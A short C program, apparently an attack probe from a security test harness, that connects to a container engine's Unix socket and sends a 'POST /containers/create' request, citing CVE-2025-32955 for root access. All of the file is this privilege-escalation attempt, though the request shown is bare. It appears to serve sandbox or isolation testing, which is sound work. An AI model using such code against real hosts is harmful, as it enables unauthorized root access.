/* A container engine does the work, where nobody watches (CVE-2025-32955: root by its socket). */
#include "attack.h"
int main(int c, char **v) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    strcpy(to.sun_path, v[1]);
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    if (connect(fd, (void *)&to, sizeof to)) { failed("connect"); finish(0); }
    send(fd, "POST /containers/create", 23, MSG_NOSIGNAL);
    finish(gets_prize(fd));
}
